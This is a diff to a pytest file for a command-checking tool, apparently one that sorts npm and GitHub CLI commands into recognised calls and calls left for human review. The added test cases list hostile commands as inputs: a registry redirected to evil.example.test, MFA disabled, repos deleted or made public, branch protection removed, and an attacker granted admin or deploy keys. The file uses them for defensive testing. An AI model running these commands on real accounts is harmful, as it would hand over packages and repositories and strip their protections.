@@ -6,7 +6,11 @@ import pytest
 
 from hardenme.reports.calls import Call, placeholders, plain_call, plain_calls
 
-BODY = '{"name": "it\'s \\u00e9", "rules": [{"type": "a && b | c"}]}'
+BODY = (
+    '{"name": "it\'s \\u00e9", "target": "branch", "enforcement": "active",'
+    ' "conditions": {}, "rules": [{"type": "a && b | c"}]}'
+)
+TRUST = "npm trust github web --repo=a/b --file=release.yml --env=npm --allow-stage-publish"
 RULESET = f"echo {shlex.quote(BODY)} | gh api -X POST repos/a/b/rulesets --input -"
 FILTER = "del(.selected_actions_url) | .sha_pinning_required = true"
 REWRITE = (
@@ -23,7 +27,7 @@ def test_one_call_is_its_words() -> None:
 
 
 def test_calls_in_a_row_are_each_one() -> None:
-    calls = plain_calls("npm trust revoke --id=1 web && npm trust github web --repo=a/b")
+    calls = plain_calls(f"npm trust revoke --id=1 web && {TRUST}")
     assert [call.words[:3] for call in calls] == [
         ("npm", "trust", "revoke"),
         ("npm", "trust", "github"),
@@ -88,6 +92,44 @@ def test_a_setting_that_is_read_changed_and_written_back_is_one_call() -> None:
         "gh api -X DELETE x --jq '.a' | gh api -X PUT x --input -",
         "gh api --paginate x --jq '.a' | gh api -X PUT x --input -",
         f"npm token revoke {'x' * 100_001}",
+        # What no check prints, though each is one plain call of a known program.
+        "npm install harm",
+        "npm exec harm",
+        "npm owner add mallory web",
+        "npm access grant read-write acme:developers web",
+        "npm access set mfa=none web",
+        "npm access set status=public web",
+        "npm config set registry=http://evil.example.test/ --location=user",
+        "npm config set ignore-scripts=false --location=user",
+        "npm profile enable-2fa auth-and-writes --registry https://evil.example.test",
+        "npm unpublish web",
+        "gh alias set x harm",
+        "gh extension install mallory/gh-harm",
+        "gh api -X DELETE repos/acme/web",
+        "gh api -X PUT orgs/acme/memberships/mallory -f role=admin",
+        "gh api -X PUT repos/acme/web/collaborators/mallory -f permission=admin",
+        "gh api -X POST repos/acme/web/keys -f key=x -F read_only=false",
+        "gh api -X PATCH repos/acme/web -F private=false",
+        "gh api -X PATCH orgs/acme -F members_can_delete_issues=true",
+        "gh api -X DELETE repos/acme/web/branches/main/protection/enforce_admins",
+        "gh api --hostname -X -X DELETE user/keys/1",
+        "gh api -X DELETE --hostname a.test --hostname b.test user/keys/1",
+        (
+            "gh api orgs/a/actions/permissions --jq '.a = env'"
+            " | gh api -X PUT orgs/a/actions/permissions --input -"
+        ),
+        (
+            "gh api orgs/a/actions/permissions --jq '.a = true'"
+            " | gh api -X PUT orgs/b/actions/permissions --input -"
+        ),
+        (
+            "gh api orgs/a/actions/permissions --jq '.a = true'"
+            " | gh api --hostname b.test -X PUT orgs/a/actions/permissions --input -"
+        ),
+        (
+            """echo '{"name": "x", "target": "branch", "enforcement": "active", "conditions": {},"""
+            """ "rules": [], "bypass_actors": []}' | gh api -X POST repos/a/b/rulesets --input -"""
+        ),
     ],
 )
 def test_anything_else_is_left_to_a_person(command: str) -> None:
